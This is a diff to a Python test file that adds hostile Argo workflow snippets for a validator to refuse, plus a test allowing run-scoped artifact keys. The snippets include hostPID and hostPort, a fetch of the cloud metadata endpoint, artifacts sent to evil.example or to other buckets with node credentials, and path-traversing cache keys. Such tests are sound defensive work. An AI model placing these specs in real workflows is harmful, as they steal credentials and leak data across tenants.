@@ -196,7 +196,60 @@ HOSTILE = {
         "        container: {image: x}",
         "passwordSecret",
     ),
+    "hostPort": ("        container: {image: x, ports: [{containerPort: 80, hostPort: 80}]}", "hostPort"),
+    "hostPID": ("        container: {image: x}\n        hostPID: true", "hostPID"),
+    "s3 with the node's credentials": (
+        "        outputs:\n          artifacts:\n            - name: loot\n              path: /tmp/l\n"
+        "              s3: {endpoint: s3.amazonaws.com, bucket: someone-elses, key: x, useSDKCreds: true}\n"
+        "        container: {image: x}",
+        "s3",
+    ),
+    "gcs with workload identity": (
+        "        inputs:\n          artifacts:\n            - name: loot\n              path: /tmp/l\n"
+        "              gcs: {bucket: private-bucket, key: secrets.tgz}\n"
+        "        container: {image: x}",
+        "gcs",
+    ),
+    "http artifact": (
+        "        inputs:\n          artifacts:\n            - name: x\n              path: /tmp/x\n"
+        "              http: {url: 'http://169.254.169.254/latest/meta-data/'}\n"
+        "        container: {image: x}",
+        "http",
+    ),
+    "another run's key": (
+        "        inputs:\n          artifacts:\n            - name: x\n              path: /tmp/x\n"
+        "              s3: {key: forgeflow-cache/octo/private/main/pip.tgz}\n"
+        "        container: {image: x}",
+        "s3",
+    ),
+    "a key that climbs out": (
+        "        outputs:\n          artifacts:\n            - name: x\n              path: /tmp/x\n"
+        "              s3: {key: '{{workflow.name}}/../other-run/x.tgz'}\n"
+        "        container: {image: x}",
+        "s3",
+    ),
+    "archiveLocation": (
+        "        archiveLocation: {s3: {endpoint: evil.example, bucket: b, key: k}}\n"
+        "        container: {image: x}",
+        "s3",
+    ),
 }
+
+
+def test_raw_argo_may_keep_artifacts_by_key_under_its_own_run():
+    text = RAW % (
+        "        inputs:\n          artifacts:\n            - {name: note, path: /tmp/n, raw: {data: hi}}\n"
+        "        outputs:\n          artifacts:\n            - name: report\n              path: /tmp/r\n"
+        "              s3: {key: '{{workflow.name}}/reports/r.tgz'}\n"
+        "            - {name: plain, path: /tmp/p}\n"
+        "        archiveLocation: {archiveLogs: true}\n"
+        "        container: {image: x}"
+    )
+    planned = plan(text)
+    assert planned.plan is not None and planned.plan.tasks
+    elsewhere = text.replace("s3: {key: '{{workflow.name}}/reports/r.tgz'}", "s3: {key: k, bucket: b}")
+    assert "argo_allow: [artifactLocations]" in refusals(elsewhere)[0]
+    assert plan(elsewhere, repositories=[{**POLICY, "argo_allow": ["artifactLocations"]}]).plan is not None
 
 
 @pytest.mark.parametrize("case", sorted(HOSTILE))
